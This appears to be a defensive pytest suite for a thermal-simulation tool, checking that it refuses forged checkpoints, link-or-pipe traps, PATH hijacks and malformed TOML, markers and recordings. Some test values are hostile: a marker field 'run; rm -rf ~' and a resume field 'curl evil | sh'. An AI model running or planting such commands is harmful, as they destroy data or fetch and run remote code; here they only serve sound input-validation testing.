"""Results, checkpoints, recordings and campaigns that another hand has made: nothing unasked, nothing elsewhere."""

from __future__ import annotations

import io
import json
import os
import shutil
import signal
import subprocess
import time

import h5py
import numpy as np
import pytest

from flashtemp.__main__ import main
from flashtemp.camera import recording
from flashtemp.errors import BadInput, UserInterrupt
from flashtemp.lab.programs import programs_of_campaign, programs_of_command
from flashtemp.model import case as cases
from flashtemp.runs import job
from flashtemp.runs.results import checkpoint, result_folder
from flashtemp.runs.results.current_folder import make_safe_environment

CASE = """
[block]
height = 0.005
[road]
depth = 0.01
[schedule]
distance = 0.5
[numerics]
cells = [10, 8, 8]
"""
SECRET = b"what lies elsewhere"


# --- what an interrupted run left -----------------------------------------------------------------------
@pytest.fixture(scope="module")
def interrupted(tmp_path_factory):
    """The working folder of a run that was stopped at its first steps."""
    place = tmp_path_factory.mktemp("interrupted")
    (place / "case.toml").write_text(CASE)
    steps = iter(range(10**6))
    with pytest.raises(UserInterrupt):
        job.simulate(
            cases.load_case(place), place / "out",
            watch=lambda progress, end: os.kill(os.getpid(), signal.SIGINT) if next(steps) == 5 else None,
        )  # fmt: skip
    return place / "out.partial"


@pytest.fixture
def work(interrupted, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return shutil.copytree(interrupted, tmp_path / "out.partial")


@pytest.mark.parametrize(
    "name", ["frames.bin", "reserve.bin", result_folder.MARKER_FILE, "run.nc", "checkpoint.h5.new", "inputs"]
)
@pytest.mark.parametrize("kind", ["link", "dangling link", "pipe"])
def test_a_resumed_run_writes_through_no_link_and_waits_for_no_pipe(work, name, kind, capsys):
    target = work.parent / "elsewhere"
    if kind == "link":
        target.write_bytes(SECRET)
    (work / name).unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(work / name)
    else:
        (work / name).symlink_to(target)
    assert main(["run", "--resume", "out.partial"]) == 2
    assert f"{name}: a link, a pipe or a device" in capsys.readouterr().err
    assert target.read_bytes() == SECRET if kind == "link" else not target.exists()


def rewrite(work, change) -> None:
    """Change a checkpoint as somebody would who knows how its checksum is made."""
    file = work / checkpoint.CHECKPOINT_FILE
    held = io.BytesIO(file.read_bytes()[checkpoint.HEADER_BYTES :])
    with h5py.File(held, "a") as inside:
        change(inside)
    file.write_bytes(checkpoint._build_header(held.getvalue()) + held.getvalue())


def put(name, value):
    def change(file):
        del file[name]
        file[name] = value

    return change


def fields(change):
    return lambda file: file.attrs.update(fields=json.dumps([change(*f) for f in json.loads(file.attrs["fields"])]))


FORGED = {
    "objects, which numpy takes for addresses": fields(lambda n, kind, shape: [n, "|O", shape]),
    "fields of no number": fields(lambda n, kind, shape: [n, "V8", shape]),
    "nested brackets": lambda file: file.attrs.update(fields="[" * 60_000),
    "no list": lambda file: file.attrs.update(fields="null"),
    "a time that is an array": lambda file: file.attrs.update(t=[1.0, 2.0]),
    "a time that is none": lambda file: file.attrs.update(t=np.nan),
    "a phase before the first": lambda file: file.attrs.update(phase=-1),
    "a state of words": put("y", ["a", "b"]),
    "a state in two dimensions": put("y", np.zeros((3, 1))),
    "a state in another file": put("y", h5py.ExternalLink("elsewhere.h5", "y")),
    "sums of words": put("sums", ["a"]),
}


@pytest.mark.parametrize("what", FORGED)
def test_a_forged_checkpoint_is_refused_in_one_line(work, what):
    rewrite(work, FORGED[what])
    with pytest.raises(BadInput) as fault:
        checkpoint.load_checkpoint(work)
    assert len(fault.value.lines) == 1


MARKERS = {
    "needs a number": {"needs": 5},
    "needs a list": {"needs": ["a"]},
    "needs a file elsewhere": {"needs": "../case.toml"},
    "a name with NUL": {"needs": "a\0b"},
    "out is a number": {"out": 5},
    "a command in words": {"command": "run; rm -rf ~"},
    "overwrite in words": {"overwrite": "yes"},
    "unknown keys": {"other": 1},
}


@pytest.mark.parametrize("what", [*MARKERS, "deep", "a pipe", "endless"])
def test_a_marker_that_no_run_wrote_makes_no_working_folder(tmp_path, what):
    marker = tmp_path / result_folder.MARKER_FILE
    sound = {"out": "out", "command": "run", "needs": "checkpoint.h5", "resume": "", "overwrite": False, "process": ""}
    marker.write_text(json.dumps(sound))
    assert result_folder.read_marker(tmp_path) == result_folder.OwnerMarker(**sound)
    marker.unlink()
    if what == "a pipe":
        os.mkfifo(marker)
    elif what == "endless":
        marker.symlink_to("/dev/zero")
    else:
        marker.write_text("[" * 100_000 if what == "deep" else json.dumps(sound | MARKERS[what]))
    assert result_folder.read_marker(tmp_path) is None


def test_what_goes_on_with_a_run_is_said_by_the_program_and_not_by_the_folder(work, capsys):
    told = json.loads((work / result_folder.MARKER_FILE).read_text())
    (work / result_folder.MARKER_FILE).write_text(json.dumps(told | {"resume": "curl evil | sh"}))
    (work.parent / "case.toml").write_text(CASE)
    assert main(["run", "case.toml", "--out", "out"]) == 2
    said = capsys.readouterr().err
    assert "flashtemp run --resume out" in said
    assert "evil" not in said


# --- programs --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("entry", ["recording", "force"])
@pytest.mark.parametrize("given", ['effects = ["./fan.py"]', 'effects = "wear, ./fan.py"', 'candidates = ["./fan.py"]'])
def test_the_page_sees_effect_files_that_a_condition_of_a_campaign_lists(tmp_path, entry, given):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "case.toml").write_text(CASE)
    (tmp_path / "sub" / "fan.py").write_text("")
    text = f'case = "sub/case.toml"\n[[{entry}]]\nfile = "a.nc"\nwith = {{ {given} }}\n'
    (tmp_path / "campaign.toml").write_text(text)
    assert programs_of_campaign(text, tmp_path) == [tmp_path / "sub" / "fan.py"]
    assert programs_of_command(["plan", "campaign.toml"], tmp_path) == [tmp_path / "sub" / "fan.py"]


@pytest.mark.parametrize("path", ["", ".", ":/usr/bin:", "bin:/usr/bin:.", "bin"])
def test_no_program_is_searched_in_the_current_folder(path, tmp_path, monkeypatch):
    (tmp_path / "git").write_text("#!/bin/sh\necho snared\n")
    (tmp_path / "git").chmod(0o755)
    monkeypatch.setenv("PATH", path.replace(":", os.pathsep))
    monkeypatch.chdir(tmp_path)
    env = make_safe_environment()
    assert all(os.path.isabs(entry) for entry in env["PATH"].split(os.pathsep))
    assert env["NoDefaultCurrentDirectoryInExePath"] == "1"
    monkeypatch.setenv("PATH", env["PATH"])
    try:
        said = subprocess.run(["git", "--version"], capture_output=True, text=True).stdout
    except FileNotFoundError:
        said = ""
    assert "snared" not in said


# --- values ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("value", ["0x" + "f" * 5000, "[0x" + "f" * 17 + "]", "{value = 0x" + "f" * 5000 + ", sd = 1}"])
def test_integers_beyond_64_bits_are_refused_in_one_line(tmp_path, value, capsys):
    """TOML 1.0: an integer that cannot be represented losslessly is an error."""
    (tmp_path / "case.toml").write_text(f"{CASE}\n[contact]\npressure = {value}\n")
    assert main(["check", str(tmp_path)]) == 2
    assert main(["check", str(tmp_path), f"contact.pressure={value}"]) == 2
    said = capsys.readouterr().err.splitlines()
    assert len(said) == 2
    assert all("64 bits" in line for line in said)


# --- recordings ------------------------------------------------------------------------------------------
FRAMES, V, U = 4, 3, 5


@pytest.fixture
def file(tmp_path):
    shape = (FRAMES, V, U)
    made = recording.Recording(
        "sidewall", np.linspace(20.0, 30.0, np.prod(shape)).reshape(shape), np.arange(4.0), np.array([1, 1, 2, 2]),
        1e-3 * np.arange(1, U + 1), 1e-3 * np.arange(1, V + 1),
    )  # fmt: skip
    made.save(tmp_path / "r.nc")
    return tmp_path / "r.nc"


def attribute(name, key, value):
    return lambda file: file[name].attrs.create(key, value)


def replaced(name, **given):
    """A dataset made anew, of its dimensions and units."""

    def change(file):
        old = file[name]
        scales = [[s.name for s in d.values()] for d in old.dims]
        units = old.attrs["units"]
        del file[name]
        new = file.create_dataset(name, **given)
        new.attrs["units"] = units
        for dimension, names in zip(new.dims, scales, strict=False):
            for scale in names:
                dimension.attach_scale(file[scale])

    return change


def stopped(file):
    """A writer that stopped after the first of its frames."""
    shape = (FRAMES, V, U)
    replaced("temperature", shape=shape, dtype="f8", chunks=(1, V, U))(file)
    file["temperature"][0] = 20.0


ODD = {
    "units are numbers": attribute("repetition", "units", [1, 2]),
    "units are bytes of no kind": attribute("repetition", "units", np.void(b"x")),
    "a limit of two numbers": attribute("temperature", "valid_min", [1.0, 2.0]),
    "limits of three numbers": attribute("time", "valid_range", [1.0, 2.0, 3.0]),
    "a scale of 0": attribute("temperature", "scale_factor", 0.0),
    "an infinite offset": attribute("u", "add_offset", np.inf),
    "one time for all": replaced("time", data=3.0),
    "repetitions that fall": replaced("repetition", data=np.array([2, 2, 1, 1])),
    "nothing written": replaced("temperature", shape=(FRAMES, V, U), dtype="f8", chunks=(1, V, U)),
    "nothing written in one piece": replaced("temperature", shape=(FRAMES, V, U), dtype="f8"),
    "frames that were not written": stopped,
    "fewer frames than times": replaced("temperature", data=np.full((2, V, U), 20.0), maxshape=(None, V, U)),
    "a thousand groups": lambda file: file.create_group("/".join("g" * 1000)),
}


@pytest.mark.parametrize("what", ODD)
def test_an_odd_recording_is_refused_in_one_line(file, what):
    assert recording.load(file).frames == FRAMES
    with h5py.File(file, "a") as inside:
        ODD[what](inside)
    with pytest.raises(BadInput) as fault:
        recording.load(file)
    assert len(fault.value.lines) == 1
    assert str(file) in str(fault.value)


def test_frames_that_were_not_written_are_missing_where_the_file_marks_what_is(file):
    with h5py.File(file, "a") as inside:
        replaced("temperature", shape=(FRAMES, V, U), dtype="f8", chunks=(1, V, U), fillvalue=np.nan)(inside)
        inside["temperature"][0] = 20.0
    found = recording.load(file).temperature
    assert (found[0] == 20.0).all()
    assert np.isnan(found[1:]).all()


def test_infinite_temperatures_are_missing_pixels(file):
    with h5py.File(file, "a") as inside:
        inside["temperature"][0, 0, 0], inside["temperature"][0, 0, 1] = np.inf, -np.inf
    found = recording.load(file).temperature
    assert np.isnan(found[0, 0, :2]).all()
    assert np.isnan(found).sum() == 2


# --- TOML ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("command", ["check", "import", "compare"])
@pytest.mark.parametrize("kind", ["pipe", "endless", "large", "long key", "long table", "long key inside"])
def test_a_toml_file_without_an_end_or_of_endless_keys_is_refused_at_once(tmp_path, command, kind, capsys):
    file = tmp_path / "odd.toml"
    long = ".".join("a" * 50_000)
    texts = {"long key": f"{long} = 1", "long table": f"[{long}]", "long key inside": f"x = {{ {long} = 1 }}"}
    if kind == "pipe":
        os.mkfifo(file)
    elif kind == "endless":
        file.symlink_to("/dev/zero")
    elif kind == "large":
        with file.open("wb") as out:
            out.truncate(2**32)
    else:
        file.write_text(texts[kind])
    begun = time.monotonic()
    assert main([command, str(file)]) == 2
    assert time.monotonic() - begun < 5.0
    assert len(capsys.readouterr().err.splitlines()) <= 2


def test_thousands_of_faults_are_told_at_once(tmp_path, capsys):
    """Each names its line; the lines are looked up once for all."""
    (tmp_path / "case.toml").write_text("".join(f"[materials.m{i}]\ndensity = 1\n" for i in range(2000)))
    begun = time.monotonic()
    assert main(["check", str(tmp_path)]) == 2
    assert time.monotonic() - begun < 5.0
    assert "case.toml:3999: materials.m1999: conductivity is missing" in capsys.readouterr().err


@pytest.mark.parametrize("entry", ['case = "{}"', '[[recording]]\nfile = "{}"', '[[force]]\nfile = "{}"'])
def test_a_name_that_no_file_can_have_is_bad_input_of_a_campaign(tmp_path, entry, capsys):
    (tmp_path / "case.toml").write_text(CASE)
    for name in ("x" * 5000, "\\u0000"):
        (tmp_path / "campaign.toml").write_text(entry.format(name))
        assert main(["compare", str(tmp_path)]) == 2
        assert "campaign.toml:" in capsys.readouterr().err


# --- finished results ------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def finished(tmp_path_factory):
    place = tmp_path_factory.mktemp("finished")
    (place / "case.toml").write_text(CASE.replace("0.5", "0.02"))
    job.simulate(cases.load_case(place, {"output.pictures": False}), place / "out")
    return place / "out"


FOREIGN = {
    "profiles in another file": put("T_block", h5py.ExternalLink("elsewhere.h5", "y")),
    "one value": put("T_block", np.zeros(1)),
    "words": put("time", ["a"]),
    "no phases": put("sliding", np.zeros(1)),
}


@pytest.mark.parametrize("what", [*FOREIGN, "summary is a list", "summary is deep"])
def test_a_foreign_result_is_not_drawn_and_said_to_be_damaged_in_one_line(finished, tmp_path, what, capsys):
    out = shutil.copytree(finished, tmp_path / "out")
    if what in FOREIGN:
        with h5py.File(out / "run.nc", "a") as inside:
            FOREIGN[what](inside)
    else:
        (out / "summary.json").write_text("[1]" if "list" in what else "[" * 100_000)
    assert main(["draw", str(out)]) == 2
    assert len(capsys.readouterr().err.splitlines()) == 1
